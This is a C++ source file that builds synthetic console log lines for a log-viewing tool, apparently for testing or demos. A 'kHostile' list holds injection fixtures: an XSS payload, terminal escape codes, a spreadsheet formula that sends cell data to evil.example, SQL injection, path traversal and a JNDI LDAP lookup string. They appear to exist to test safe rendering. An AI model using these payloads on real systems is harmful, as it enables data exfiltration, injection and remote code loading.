#include "delivery/scene.h"

namespace tracedeck::delivery {

namespace {

using enum Shade;

constexpr auto kEdge = std::to_array<ConsoleSpec>({
    {Log, 300, {"route %w -> origin-%d (%m ms) upstream=https://origin-%d.internal.example.com/%w/%n cache=%h"}},
    {Debug, 220, {"cache HIT key=shop:%w:%h age=%ns ttl=3600 tier=upper colo=FRA"}},
    {Debug, 120, {"cache MISS key=%h"}},
    {Info, 60, {"geo", R"({"country":"DE","colo":"FRA","asn":%n})"}, true},
    {Warn, 22, {"origin-%d slow: %m ms, retrying once"}},
    {Log, 60, {R"({"level":"info","msg":"request","path":"/p/%w","ms":%m,"trace":"%H"})"}},
    {Error, 6, {"origin-%d answered 5%d0 for /p/%w-%n"}},
});
constexpr auto kShop = std::to_array<ConsoleSpec>({
    {Log, 260, {"confirm cart=cart_%h items=%d"}},
    {Debug,
     120,
     {"pricing",
      R"({"cart":"cart_%h","lines":[{"sku":"%w-%n","net":%n.%d5,"tax":%d.%d7},{"sku":"%w-%n","net":%n.%d5,"tax":%d.%d7}],"region":"%r"})"},
     true},
    {Debug, 200, {"kv hit session:%n age=%ds"}},
    {Warn, 40, {"quote missing for region \"%r\", using default"}},
    {Info, 120, {"order placed", R"({"order":"ord_%h","total":%n.%d9,"currency":"EUR","items":[{"sku":"%w-%n","qty":%d}]})"}, true},
    {Log, 80, {"tax", R"({"region":"%r","rate":0.19,"ms":%m})", "%n"}, true},
    {Error, 8, {"totals failed", R"({"cart":"cart_%h","step":"tax","retry":true})"}, true},
    {Log, 60, {R"({"event":"checkout.step","step":%d,"cart":"cart_%h","user":"u_%n"})"}},
});
constexpr auto kImage = std::to_array<ConsoleSpec>({
    {Log, 260, {"resize %w-%n.jpg %nx%n -> avif in %m ms, quality=72, source=r2:originals/%H.jpg"}},
    {Debug, 160, {"decode", R"({"format":"avif","width":%n,"height":%n,"bytes":%N})"}, true},
    {Warn, 34, {"source larger than 12 MP: %N bytes"}},
    {Info, 60, {"r2 get originals/%H.jpg etag=%h"}},
    {Error, 6, {"decode failed for %H: unexpected end of data"}},
});
constexpr auto kSearch = std::to_array<ConsoleSpec>({
    {Debug, 300, {"q=\"%W\" hits=%n took=%mms shards=[0,1,2,3] fallback=false model=suggest-v%d.%n"}},
    {Log, 140, {"index shard %d ready, %N documents"}},
    {Warn, 18, {"query too long: %n characters"}},
    {Log, 70, {R"({"q":"%w","hits":%n,"shard":%d})"}},
});
constexpr auto kRelay = std::to_array<ConsoleSpec>({
    {Log, 240, {"deliver %u to https://partner-%d.example/hooks attempt=%d"}},
    {Info, 100, {"delivered", R"({"id":"%u","status":200,"ms":%m})"}, true},
    {Warn, 60, {"partner-%d answered 503, next try in %n s"}},
    {Error, 14, {"giving up on %u after 5 tries"}},
    {Debug, 60, {"signature ok kid=%h"}},
});
constexpr auto kStore = std::to_array<ConsoleSpec>({
    {Debug, 260, {"get %u hit"}},
    {Log, 120, {"put %u", "%n", "bytes"}, true},
    {Info, 40, {"alarm set for %T"}},
    {Warn, 18, {"storage.list() returned %n keys"}},
});
constexpr auto kChat = std::to_array<ConsoleSpec>({
    {Log, 220, {"message in room %s from u_%n"}},
    {Debug, 120, {"sockets", "%n"}, true},
    {Info, 50, {"join", R"({"room":"%s","user":"u_%n","name":"%e"})"}, true},
    {Warn, 18, {"slow consumer u_%n, dropped %d frames"}},
});
constexpr auto kClock = std::to_array<ConsoleSpec>({
    {Log, 240, {"run %w started"}},
    {Info, 160, {"run finished", R"({"rows":%N,"ms":%m,"next":"%T"})"}, true},
    {Warn, 40, {"partition %d is empty"}},
    {Error, 20, {"upstream %i refused the connection"}},
});
constexpr auto kMail = std::to_array<ConsoleSpec>({
    {Log, 220, {"mail from", "%e", "to support@example.com"}},
    {Debug, 120, {"spf=pass dkim=pass score=%d"}},
    {Warn, 30, {"attachment of %N bytes dropped"}},
});
constexpr auto kWorklist = std::to_array<ConsoleSpec>({
    {Log, 240, {"msg", "%u", "%d"}, true},
    {Info, 120, {"batch done", R"({"ok":%d,"retried":%d,"queue":"%w"})"}, true},
    {Warn, 50, {"retry %u attempt %d"}},
    {Error, 18, {"dead letter", R"({"id":"%u","reason":"schema","body":{"sku":"%w-%n","qty":null}})"}, true},
});
constexpr auto kGate = std::to_array<ConsoleSpec>({
    {Log, 200, {"token issued sub=u_%n client=%h"}},
    {Debug, 140, {"jwks cache hit kid=%h"}},
    {Warn, 40, {"login failed for %e from %i"}},
    {Info, 60, {R"({"audit":"grant","sub":"u_%n","scopes":["orders:read","cart"],"ip":"%i"})"}},
});

constexpr std::array<std::span<const ConsoleSpec>, kTrades> kConsole {kEdge,  kShop, kImage,    kSearch, kRelay, kStore, kChat,
                                                                      kClock, kMail, kWorklist, kRelay,  kGate,  kEdge,  kShop};

constexpr auto kHostile = std::to_array<std::string_view>({
    "<img src=x onerror=alert(1)><b>bold</b> &lt;script&gt;",
    "user name is \xe2\x80\xaegpj.exe\xe2\x80\xac and \xe2\x81\xa6isolated\xe2\x81\xa9",
    "\x1b[31;1mred\x1b[0m \x1b]0;new title\x07 \x1b[2J",
    "bell \x07 backspace \x08 null-ish \x01 delete \x7f carriage\rreturn",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    "zero\xe2\x80\x8bwidth\xef\xbb\xbf and tag \xf3\xa0\x81\x81 and line\xe2\x80\xa8separator",
    "'; DROP TABLE events; --",
    "..\\..\\..\\etc\\passwd \\u0000 \\x1b %s %n ${jndi:ldap://evil.example/a}",
    "first line\nsecond line\n\tthird, indented",
});
constexpr auto kWorld = std::to_array<std::string_view>({
    "ご注文ありがとうございます 🛒 注文番号を確認しました",
    "库存不足:请稍后再试 📦",
    "Größe „42“ ist nicht verfügbar — Versand nach Österreich",
    "주문이 완료되었습니다 ✅",
    "заказ принят, курьер приедет завтра 🚚",
    "تم استلام الطلب رقم ٤٢",
    "family 👩‍👩‍👧‍👦 flag 🇯🇵 skin 👍🏽 math 𝒜𝒷",
});

} // namespace

std::span<const ConsoleSpec> consoleOf(Trade trade)
{
    return kConsole[static_cast<std::size_t>(trade)];
}

std::span<const std::string_view> hostileTexts()
{
    return kHostile;
}

std::span<const std::string_view> worldTexts()
{
    return kWorld;
}

} // namespace tracedeck::delivery
